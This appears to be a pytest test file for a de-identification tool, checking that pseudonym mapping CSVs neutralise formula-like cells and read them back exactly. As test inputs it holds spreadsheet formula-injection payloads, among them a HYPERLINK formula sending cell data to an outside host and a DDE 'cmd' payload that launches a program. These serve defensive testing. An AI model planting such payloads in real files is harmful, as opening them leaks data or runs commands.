"""Cells that a spreadsheet would run: harmless in every CSV that we write, and exact again where we read them."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tasks.core.formulas import neutral, original
from tasks.core.pseudonyms import Pseudonymiser
from tasks.deidentify.mapping import Mapping, read_pairs

KEY = Pseudonymiser(bytes(32))


@given(st.text(alphabet="'=+-@\t\r 0123456789.eE(a", max_size=8))
@example("''=1")
def test_what_was_made_harmless_comes_back_exactly(text: str) -> None:
    cell = neutral(text)
    assert original(cell) == text
    if cell[:1] in tuple("=+-@\t\r") and cell:
        float(cell)


@pytest.mark.parametrize("identifier", ['=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "+cmd|' /C calc'!A0", "\tx", "-2+3"])
def test_an_identifier_that_is_a_formula_does_not_run_from_the_mapping(tmp_path: Path, identifier: str) -> None:
    with Mapping(tmp_path / "mapping", tmp_path / "out", KEY) as mapping:
        mapping.add([], [(identifier, KEY.patient(identifier))])
        mapping.write([(identifier, "i1", "kept")])
    for name in ("patient.csv", "files.csv"):
        with (tmp_path / "mapping" / name).open(newline="", encoding="utf-8") as handle:
            (row,) = list(csv.reader(handle))[1:]
        assert row[0] == f"'{identifier}"
    assert dict(read_pairs(tmp_path / "mapping" / "patient.csv")) == {identifier: KEY.patient(identifier)}
    with Mapping(tmp_path / "mapping", tmp_path / "out", KEY) as again:
        again.write([])
    assert dict(read_pairs(tmp_path / "mapping" / "patient.csv")) == {identifier: KEY.patient(identifier)}
